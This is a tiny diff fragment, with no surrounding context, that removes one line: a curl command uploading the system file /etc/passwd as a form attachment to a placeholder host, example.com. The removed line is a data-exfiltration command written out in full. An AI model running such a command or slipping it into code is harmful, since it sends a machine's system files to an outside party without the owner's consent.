@@ -1,1 +1,0 @@
-curl -F f=@/etc/passwd https://example.com
